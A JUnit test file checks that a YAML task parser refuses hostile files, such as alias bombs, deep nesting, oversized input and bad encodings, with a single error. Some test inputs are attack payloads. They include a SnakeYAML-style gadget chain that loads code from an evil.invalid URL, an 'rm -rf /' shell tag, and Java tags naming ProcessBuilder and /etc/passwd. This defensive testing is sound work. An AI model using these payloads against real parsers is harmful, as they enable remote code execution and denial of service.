package dev.dashgen.tasks;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.dashgen.model.Problem;
import dev.dashgen.model.Severity;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.function.Supplier;
import org.junit.jupiter.api.Test;

/** Hostile task files (PRODUCT.md §2, §4): each yields one error, never a crash, a hang or constructed objects. */
class HostileYamlTest {
    private static final Duration BOUND = Duration.ofSeconds(10);
    private static final String FILE = "inbox/evil.yaml";

    /** Parses within the bound and returns the single error the file must yield. */
    private static Problem refused(Supplier<ParsedFile> parse) {
        ParsedFile parsed = assertTimeoutPreemptively(BOUND, parse::get);
        assertNull(parsed.task(), () -> "a task was read from a hostile file: " + parsed.task());
        assertEquals(1, parsed.problems().size(), parsed.problems()::toString);
        Problem p = parsed.problems().get(0);
        assertEquals(Severity.ERROR, p.severity());
        assertEquals(FILE, p.file());
        return p;
    }

    private static Problem refused(String text) {
        return refused(() -> TaskParser.parse(text, FILE, LaneSource.FOLDER));
    }

    @Test
    void billionLaughs() {
        StringBuilder y = new StringBuilder("id: evil\nlol0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (int i = 1; i <= 9; i++) {
            y.append("lol").append(i).append(": &a").append(i).append(" [");
            for (int j = 0; j < 9; j++) y.append(j == 0 ? "" : ",").append("*a").append(i - 1);
            y.append("]\n");
        }
        Problem p = refused(y.toString());
        assertTrue(p.message().contains("simplify") || p.message().contains("aliases"), p::toString);
    }

    @Test
    void aliasBombBelowTheAliasLimitIsStoppedByTheValueLimit() {
        // 6 levels of 8 aliases = 48 aliases, but 8^6 = 262,144 values once expanded.
        StringBuilder y = new StringBuilder("id: evil\nl0: &a0 [x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i <= 6; i++) {
            y.append("l").append(i).append(": &a").append(i).append(" [");
            for (int j = 0; j < 8; j++) y.append(j == 0 ? "" : ", ").append("*a").append(i - 1);
            y.append("]\n");
        }
        assertTrue(refused(y.toString()).message().contains("expands to more than"));
    }

    @Test
    void aValueThatContainsItself() {
        assertTrue(refused("id: evil\nloop: &a [x, *a]\n").message().contains("refers to itself"));
    }

    @Test
    void aJavaGlobalTagIsRefusedNotConstructed() {
        String y = "id: evil\npayload: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.invalid/\"]]]]\n";
        Problem p = refused(y);
        assertTrue(p.message().contains("tag") && p.message().contains("javax.script.ScriptEngineManager")
                && p.message().contains("not allowed"), p::toString);
        assertEquals(2, p.line());
    }

    @Test
    void aLocalTagIsRefused() {
        assertTrue(refused("id: evil\ntitle: !shell rm -rf /\n").message().contains("is not allowed"));
    }

    @Test
    void aJavaTagOnTheWholeDocumentIsRefused() {
        assertTrue(refused("--- !!java.lang.ProcessBuilder\nid: evil\ntitle: T\n").message().contains("is not allowed"));
    }

    @Test
    void aJavaTagOnAKeyIsRefused() {
        assertTrue(refused("id: evil\n? !!java.io.File [/etc/passwd]\n: x\n").message().contains("is not allowed"));
    }

    @Test
    void twentyThousandNestedFlowLists() {
        String y = "id: evil\nx: " + "[".repeat(20_000) + "]".repeat(20_000) + "\n";
        refused(y);
    }

    @Test
    void twentyThousandNestedFlowMappings() {
        String y = "id: evil\nx: " + "{a: ".repeat(20_000) + "b" + "}".repeat(20_000) + "\n";
        refused(y);
    }

    @Test
    void twentyThousandNestedBlockLists() {
        String y = "id: evil\nx:\n" + "- ".repeat(20_000) + "deep\n";
        refused(y);
    }

    @Test
    void nestingJustUnderTheLimitIsRead() {
        ParsedFile parsed = TaskParser.parse("id: ok\nx: " + "[".repeat(30) + "1" + "]".repeat(30) + "\n",
                "inbox/ok.yaml", LaneSource.FOLDER);
        assertEquals("ok", parsed.task().id());
    }

    @Test
    void twentyMegabytesOfText() {
        String y = "id: evil\ndescription: \"" + "x".repeat(20 * 1024 * 1024) + "\"\n";
        Problem p = refused(y);
        assertTrue(p.message().contains("task files over 2 MB are not read"), p::toString);
    }

    @Test
    void twentyMegabytesOfBytes() {
        byte[] bytes = ("id: evil\ndescription: " + "y".repeat(20 * 1024 * 1024) + "\n").getBytes(StandardCharsets.UTF_8);
        assertTrue(refused(() -> TaskReader.parse(bytes, FILE, LaneSource.FOLDER)).message().contains("not read"));
    }

    @Test
    void latin1BytesAreAProblemWithLineAndColumn() {
        byte[] bytes = "id: evil\ntitle: Caf\u00e9 cr\u00e8me\n".getBytes(StandardCharsets.ISO_8859_1);
        Problem p = refused(() -> TaskReader.parse(bytes, FILE, LaneSource.FOLDER));
        assertEquals("file is not UTF-8 (byte 0xE9) — re-save it as UTF-8", p.message());
        assertEquals(2, p.line());
        assertEquals(11, p.column());
    }

    @Test
    void aBadByteAfterMultibyteCharactersCountsCharactersNotBytes() {
        byte[] head = "id: evil\ntitle: \u00e9\u00e9".getBytes(StandardCharsets.UTF_8);
        byte[] bytes = java.util.Arrays.copyOf(head, head.length + 2);
        bytes[head.length] = (byte) 0xFF;
        bytes[head.length + 1] = '\n';
        Problem p = refused(() -> TaskReader.parse(bytes, FILE, LaneSource.FOLDER));
        assertEquals(2, p.line());
        assertEquals(10, p.column());
    }

    @Test
    void aUtf8ByteOrderMarkIsAccepted() {
        byte[] bytes = "\uFEFFid: t-1\ntitle: T\n".getBytes(StandardCharsets.UTF_8);
        ParsedFile parsed = TaskReader.parse(bytes, "inbox/t-1.yaml", LaneSource.FOLDER);
        assertEquals("t-1", parsed.task().id());
        assertTrue(parsed.problems().isEmpty(), parsed.problems()::toString);
    }

    @Test
    void controlCharactersAreAProblemNotACrash() {
        refused("id: evil\ntitle: \u0000\u0001\n");
    }
}
